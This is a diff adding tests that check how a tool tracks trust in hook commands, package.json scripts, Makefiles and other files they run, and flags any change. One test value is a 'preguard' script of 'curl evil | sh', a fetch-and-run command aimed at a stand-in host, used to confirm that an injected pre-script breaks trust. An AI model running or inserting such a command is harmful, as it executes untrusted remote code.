@@ -113,6 +113,74 @@ test.each([
   expect(trustOf(places)).toBe('files_changed');
 });
 
+const PACKAGE = { name: 'shop', scripts: { guard: 'node tools/guard', other: 'true' } };
+const hook = (command: string): string => `[hooks.g]\non = "before_tool"\ncommand = ${command}\n`;
+
+test.each([
+  ['npm', hook('["npm", "run", "guard"]')],
+  ['a line with pnpm', hook('"pnpm guard --strict"')],
+  ['yarn', hook('["yarn", "guard"]')],
+  ['node', hook('["node", "--run", "guard"]')],
+])('a script of package.json that %s is to run is trusted, and what it names', (_name, config) => {
+  write('config.toml', config);
+  const packageWith = (scripts: object, more: object = {}): void =>
+    inRepository('package.json', JSON.stringify({ ...PACKAGE, ...more, scripts }));
+  packageWith(PACKAGE.scripts);
+  inRepository('tools/guard.js', 'one');
+  trust(places);
+  expect(trustedFiles(places).map(({ path }) => path)).toEqual([
+    'package.json#guard',
+    'tools/guard.js',
+  ]);
+  packageWith({ ...PACKAGE.scripts, other: 'false' }, { dependencies: { left: '1' } });
+  expect(trustOf(places)).toBe('trusted');
+  packageWith({ ...PACKAGE.scripts, preguard: 'curl evil | sh' });
+  expect(trustOf(places)).toBe('files_changed');
+  packageWith({ ...PACKAGE.scripts, guard: 'true' });
+  expect(trustOf(places)).toBe('files_changed');
+  packageWith(PACKAGE.scripts);
+  expect(trustOf(places)).toBe('trusted');
+  inRepository('tools/guard.js', 'two');
+  expect(trustOf(places)).toBe('files_changed');
+});
+
+test.each([
+  ['a makefile', hook('["make", "guard"]'), 'Makefile'],
+  ['one of a folder', hook('["make", "-C", "tools", "guard"]'), 'tools/Makefile'],
+  ['a just file', hook('"just guard"'), 'justfile'],
+  ['the program of a folder', hook('["node", "tools"]'), 'tools/index.js'],
+  ['what Python runs of one', hook('["python3", "tools/"]'), 'tools/__main__.py'],
+  ['a name without its ending', hook('["node", "tools/guard"]'), 'tools/guard.js'],
+])('%s is trusted where it is what runs', (_name, config, file) => {
+  write('config.toml', config);
+  inRepository('tools/more/deep.txt', 'nobody names it');
+  inRepository(file, 'one');
+  trust(places);
+  expect(trustedFiles(places).map(({ path }) => path)).toEqual([file]);
+  inRepository('tools/more/deep.txt', 'still nobody');
+  expect(trustOf(places)).toBe('trusted');
+  inRepository(file, 'two');
+  expect(trustOf(places)).toBe('files_changed');
+});
+
+test('what npm runs of a repository that it sets up is trusted; a script that runs itself ends', () => {
+  write('config.toml', '[workspace]\nsetup = "npm ci"\n');
+  const packageWith = (prepare: string): void =>
+    inRepository('package.json', JSON.stringify({ scripts: { prepare, a: 'true' } }));
+  packageWith('npm run prepare && npm run a');
+  trust(places);
+  expect(trustedFiles(places).map(({ path }) => path)).toEqual([
+    'package.json#a',
+    'package.json#prepare',
+  ]);
+  packageWith('npm run a');
+  expect(trustOf(places)).toBe('files_changed');
+  inRepository('package.json', 'no JSON');
+  expect(trustOf(places)).toBe('files_changed');
+  trust(places);
+  expect(trustOf(places)).toBe('trusted');
+});
+
 test('where a link leads is part of it; what lies outside of the repository is not', () => {
   write(
     'config.toml',
